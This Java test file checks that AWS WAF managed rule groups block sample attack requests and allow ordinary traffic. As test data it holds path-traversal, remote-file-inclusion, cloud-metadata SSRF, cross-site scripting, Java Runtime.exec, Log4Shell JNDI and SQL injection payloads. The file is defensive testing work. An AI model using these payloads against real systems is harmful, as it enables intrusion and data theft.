package dev.sallyport.core.webacl;

import static dev.sallyport.core.webacl.Acls.acl;
import static dev.sallyport.core.webacl.Acls.judge;
import static dev.sallyport.core.webacl.Acls.managed;
import static dev.sallyport.core.webacl.Acls.request;
import static org.assertj.core.api.Assertions.assertThat;

import dev.sallyport.core.attack.Area;
import dev.sallyport.core.attack.Attack;
import dev.sallyport.core.webacl.WafRequest.Header;
import dev.sallyport.core.webacl.managed.ManagedGroups;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import software.amazon.awssdk.services.wafv2.model.WebACL;

/** The example patterns that AWS gives for its managed rules, each blocked by the rule that AWS gives it for. */
class ManagedRulesTest {
    private static final WebACL EDGE = acl(
            managed("AWSManagedRulesCommonRuleSet", 1, group -> {}),
            managed("AWSManagedRulesKnownBadInputsRuleSet", 2, group -> {}),
            managed("AWSManagedRulesSQLiRuleSet", 3, group -> {}));

    @ParameterizedTest
    @CsvSource(delimiter = ' ', quoteCharacter = '~', value = {
        "GenericLFI_QUERYARGUMENTS GET /a f=../../etc/passwd ~~",
        "GenericLFI_URIPATH GET /a/..%2f..%2fb ~~ ~~",
        "GenericLFI_BODY POST /a ~~ {\"f\":\"../../x\"}",
        "RestrictedExtensions_URIPATH GET /logs/app.log ~~ ~~",
        "RestrictedExtensions_QUERYARGUMENTS GET /a f=app.ini ~~",
        "GenericRFI_QUERYARGUMENTS GET /a u=http://203.0.113.7/x.php ~~",
        "GenericRFI_BODY POST /a ~~ u=ftp://203.0.113.7/x",
        "EC2MetaDataSSRF_QUERYARGUMENTS GET /a u=//169.254.169.254/latest/meta-data/ ~~",
        "EC2MetaDataSSRF_QUERYARGUMENTS GET /a back=http://localhost:3000/done ~~",
        "EC2MetaDataSSRF_QUERYARGUMENTS GET /a back=https%3A%2F%2Flocalhost ~~",
        "EC2MetaDataSSRF_QUERYARGUMENTS GET /a back=http://127.0.0.1:8080/ ~~",
        "CrossSiteScripting_QUERYARGUMENTS GET /a q=<script>alert(\"hello\")</script> ~~",
        "CrossSiteScripting_QUERYARGUMENTS GET /a q=%253Cscript%253E ~~",
        "CrossSiteScripting_BODY POST /a ~~ <script>alert(\"hello\")</script>",
        "CrossSiteScripting_URIPATH GET /<script>alert(1)</script> ~~ ~~",
        "JavaDeserializationRCE_QUERYSTRING GET /a q=(java.lang.Runtime).getRuntime().exec(\"whoami\") ~~",
        "PROPFIND_METHOD PROPFIND /a ~~ ~~",
        "ExploitablePaths_URIPATH GET /web-inf/web.xml ~~ ~~",
        "Log4JRCE_QUERYSTRING GET /a q=${jndi:ldap://example.com/} ~~",
        "Log4JRCE_QUERYSTRING GET /a q=${${lower:j}ndi:ldap://example.com/} ~~",
        "Log4JRCE_BODY POST /a ~~ ${jndi:ldap://example.com/}",
        "SQLi_QUERYARGUMENTS GET /a id=1%27%20OR%20%271%27=%271 ~~"
    })
    @Attack(Area.WEB_ACL)
    void blocksAwsExamples(String rule, String method, String uri, String args, String body) {
        Verdict verdict = judge(EDGE, request(method, uri, args, List.of(), body));
        assertThat(verdict.ruleInGroup()).isEqualTo(rule);
        assertThat(verdict.action()).isEqualTo(WafAction.BLOCK);
        assertThat(verdict.labels()).last().asString().endsWith(label(rule));
    }

    private static String label(String rule) {
        return ManagedGroups.all().stream()
                .flatMap(group -> group.rules().stream())
                .filter(one -> one.name().equals(rule))
                .findFirst()
                .orElseThrow()
                .label();
    }

    @ParameterizedTest
    @CsvSource({
        "UserAgent_BadBots_HEADER,User-Agent,nmap", "Log4JRCE_HEADER,X-Api,${jndi:ldap://example.com/}",
        "JavaDeserializationRCE_HEADER,X-Api,java.lang.Runtime", "EC2MetaDataSSRF_COOKIE,Cookie,u=http://169.254.169.254/",
        "CrossSiteScripting_COOKIE,Cookie,a=<script>x</script>"
    })
    @Attack(Area.WEB_ACL)
    void blocksAwsExamplesInHeaders(String rule, String name, String value) {
        Verdict verdict = judge(EDGE, request("GET", "/", "", List.of(new Header(name, value)), ""));
        assertThat(verdict.ruleInGroup()).isEqualTo(rule);
    }

    @ParameterizedTest
    @CsvSource({
        "SizeRestrictions_QUERYSTRING,2048", "SizeRestrictions_URIPATH,1024", "SizeRestrictions_BODY,8192",
        "SizeRestrictions_Cookie_HEADER,10240"
    })
    @Attack(Area.WEB_ACL)
    void sizesAreLimitedAsPublished(String rule, int most) {
        assertThat(judge(EDGE, sized(rule, most)).action()).isEqualTo(WafAction.ALLOW);
        assertThat(judge(EDGE, sized(rule, most + 1)).ruleInGroup()).isEqualTo(rule);
    }

    private static WafRequest sized(String rule, int size) {
        return request(
                "POST",
                rule.endsWith("URIPATH") ? "/" + "a".repeat(size - 1) : "/",
                rule.endsWith("QUERYSTRING") ? "a".repeat(size) : "",
                rule.endsWith("Cookie_HEADER") ? List.of(new Header("Cookie", "a".repeat(size))) : List.of(),
                rule.endsWith("BODY") ? "a".repeat(size) : "");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '~', value = {
        "GET|/getBooks|author=O%27Reilly|~~",
        "GET|/pets/1|~~|~~",
        "POST|/pets|~~|{\"id\":1,\"type\":\"dog\",\"price\":249.99,\"note\":\"it's fine & <b>friendly</b>\"}",
        "POST|/records|~~|name=Ann+Example&card=4111111111111111&city=S%C3%A3o+Paulo",
        "GET|/search|q=select+a+gift&sort=price&page=2|~~",
        "GET|/static/app.min.js|v=1.2.3|~~",
        "GET|/|redirect=https%3A%2F%2Fexample.com%2Fhome|~~",
        "GET|/|redirect=https%3A%2F%2Flocalhost.example.com%2Fhome|~~"
    })
    @Attack(Area.WEB_ACL)
    void letsOrdinaryRequestsPass(String method, String uri, String args, String body) {
        assertThat(judge(EDGE, request(method, uri, args, List.of(), body)).action()).isEqualTo(WafAction.ALLOW);
    }
}
